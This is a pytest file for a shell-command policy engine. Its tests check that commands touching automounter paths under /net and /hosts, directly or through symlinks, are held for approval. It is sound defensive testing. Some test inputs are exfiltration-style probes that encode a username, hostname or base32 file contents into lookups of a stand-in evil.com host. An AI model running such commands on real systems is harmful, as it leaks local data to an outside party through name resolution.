"""Review DT, the rest: DT1 paths below an automounter's `/net` and `/hosts` through any
command, `cd` and links included; DT3 git's `signature` atom in listings and sort keys;
DT4 more credential shapes in variable values; DT5 credential files the environment
names, at their real place, and protected home files that are links; DT9 wrappers that
reach node through `exec -a`, a condition or a variable; DT12 `ls -R` of a workspace
kubeconfig and an approved javac's system class path."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from realrun import copy_workspace, env_beside

from policylang import Verdict
from policylang.decision import Decision
from policylang.engine import paths
from policylang.engine.policy import load_policy


def decide(line: str, workspace: Path, env: dict[str, str], *approvals: str) -> Decision:
    """The default policy's decision on `line` in `workspace` with `env` (`approvals`
    added in memory)."""
    policy = load_policy()
    for rule in approvals:
        policy.approvals.add(rule, persist=False)
    return policy.evaluate(line, workspace=str(workspace), env=env)


def messages(decision: Decision) -> str:
    return decision.explain()


@pytest.mark.parametrize(
    "line",
    ["cd /net/x.evil.example.com", "cd /net/$(whoami).evil.com", "test -e /net/x.evil.com",
     "[ -d /hosts/x ]", "[ -e /net/$(hostname).evil.com ]",
     'test -d "/net/$(head -c 30 README.md | base32 | tr -d =).evil.com"',
     "realpath /net/$(whoami).evil.com", "readlink -f /hosts/x.evil.com", "lsof /net/evil.com",
     "lsof +D /net/evil.com", "ls /NET/evil.com", "stat --format=%n /net/h", "cd /net; cd h",
     "ls lnk/", "cat lnk/x", "cd lnk", "cd lnk && ls"],
)  # fmt: skip
def test_dt1_automount_paths_ask(tmp_path: Path, line: str) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "lnk").symlink_to("/net/evil.example.com")
    decision = decide(line, workspace, env_beside(tmp_path))
    assert decision.verdict is Verdict.ASK, line
    assert "automounter resolves" in messages(decision), messages(decision)


@pytest.mark.parametrize(
    "line", ["ls /net", "cat /proc/net/dev", "echo https://example.com/net/x", "ls net/x"]
)
def test_dt1_other_net_paths_allowed(tmp_path: Path, line: str) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "net" / "x").mkdir(parents=True)
    assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ALLOW, line


def test_dt1_links_into_net_are_not_looked_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the system has `/net` (macOS), paths are resolved one step at a time and no
    lookup goes below it: recorded here with the system calls of a resolution."""
    workspace = copy_workspace(tmp_path)
    (workspace / "lnk").symlink_to("/net/evil.example.com")
    monkeypatch.setattr(paths, "_AUTOMOUNTS", [True])
    looked: list[str] = []
    for name in ("lstat", "stat", "access", "open", "readlink"):
        original = getattr(os, name)

        def spy(path: object, *args: object, _original: object = original, **kw: object) -> object:
            looked.append(str(path))
            return _original(path, *args, **kw)  # type: ignore[operator]

        monkeypatch.setattr(os, name, spy)
    for line in ("ls lnk/", "cat lnk/x", "cd lnk", "cd /net/evil.example.com"):
        assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ASK, line
    assert not [p for p in looked if p.lower().startswith(("/net/", "/hosts/"))], looked
